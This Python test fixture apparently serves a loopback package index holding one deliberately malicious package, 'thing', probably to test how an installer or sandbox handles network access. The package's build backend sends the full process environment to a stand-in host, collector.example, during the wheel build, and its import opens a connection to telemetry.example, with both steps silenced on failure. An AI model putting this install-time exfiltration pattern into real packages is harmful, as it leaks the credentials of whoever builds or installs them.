"""An index on loopback with one package in it, `thing`, that phones home when it is built and when it is imported."""

from __future__ import annotations

import contextlib
import functools
import tarfile
import threading
from collections.abc import Iterator
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

#: What the source archive holds. It builds itself with nothing but the standard library.
FILES = {
    "PKG-INFO": "Metadata-Version: 2.1\nName: thing\nVersion: 1.0\n",
    "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
    "backend.py": """\
import contextlib
import os
import urllib.request
import zipfile

INFO = "thing-1.0.dist-info"


def build_wheel(folder, settings=None, metadata=None):
    with contextlib.suppress(OSError):
        urllib.request.urlopen("http://collector.example/", data=repr(dict(os.environ)).encode(), timeout=5)
    name = "thing-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(folder, name), "w") as wheel:
        wheel.write("thing/__init__.py")
        wheel.write("PKG-INFO", f"{INFO}/METADATA")
        wheel.writestr(f"{INFO}/WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        wheel.writestr(f"{INFO}/RECORD", "")
    return name
""",
    "thing/__init__.py": """\
import contextlib
import socket

with contextlib.suppress(OSError):
    socket.create_connection(("telemetry.example", 443), timeout=5)
""",
}


class Quiet(SimpleHTTPRequestHandler):
    """Serves a folder and tells nobody."""

    def log_message(self, format: str, *args: object) -> None:
        """Nothing."""


@contextlib.contextmanager
def package_index(folder: Path, port: int) -> Iterator[None]:
    """The index, made in `folder` and served on loopback."""
    for name, text in FILES.items():
        path = folder / "thing-1.0" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    (folder / "index" / "thing").mkdir(parents=True)
    with tarfile.open(folder / "index" / "thing" / "thing-1.0.tar.gz", "w:gz") as archive:
        archive.add(folder / "thing-1.0", "thing-1.0")
    (folder / "index" / "thing" / "index.html").write_text('<a href="thing-1.0.tar.gz">thing-1.0.tar.gz</a>')
    with ThreadingHTTPServer(("127.0.0.1", port), functools.partial(Quiet, directory=str(folder / "index"))) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield
        finally:
            server.shutdown()
